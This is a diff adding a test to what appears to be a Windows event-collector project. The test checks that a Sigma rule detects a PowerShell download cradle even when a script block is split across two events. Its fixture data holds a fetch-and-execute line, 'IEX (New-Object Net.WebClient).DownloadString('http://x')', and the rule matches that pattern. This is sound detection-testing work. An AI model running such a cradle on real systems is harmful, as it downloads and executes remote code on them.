@@ -392,3 +392,27 @@ def test_event_log_and_etw_merged_commits_go_back_to_the_event_log(tmp_path):
     assert col.tracker.committed == 1
     assert json.loads((tmp_path / "bm.json").read_text())["channels"][SYSMON]["record_id"] == 1
     assert "SysmonX-KernelProcess" not in etw.active        # the ETW session was stopped
+
+
+def test_a_sigma_rule_on_event_220_sees_a_pattern_cut_across_two_parts(tmp_path):
+    from sysmonx.detection import DetectionStage
+    rule = tmp_path / "cradle.yml"
+    rule.write_text(
+        "title: Download cradle in one script block\n"
+        "id: 5f0c7a52-3c7e-4f6a-9d41-2a7a1d3b0f01\n"
+        "status: test\n"
+        "logsource:\n  product: windows\n  category: sysmonx_ps_script_block\n"
+        "detection:\n  sel:\n    ScriptBlockText|contains: 'Net.WebClient).DownloadString'\n"
+        "  condition: sel\nlevel: high\n")
+    stage = DetectionStage.from_paths([str(rule)])
+    assert not [i for i in stage.issues if i.rejected]
+    api = FakeWevtApi([POWERSHELL_CHANNEL])
+    text = "A" * 9990 + "IEX (New-Object Net.WebClient).DownloadString('http://x')" + "B" * 9990
+    api.write(POWERSHELL_CHANNEL, ps_part(1, 2, text[:10000]))     # the cut is inside the
+    api.write(POWERSHELL_CHANNEL, ps_part(2, 2, text[10000:]))     # pattern
+    sink = ListSink()
+    col = WindowsCollector(None, [sink], _opts(api, channels=[ChannelSpec(POWERSHELL_CHANNEL)]),
+                           detection=stage)
+    _run(col, lambda: any(e.event_id == 1000 for e in sink.events))
+    ids = [e.event_id for e in sink.events]
+    assert ids == [4104, 4104, 220, 1000]
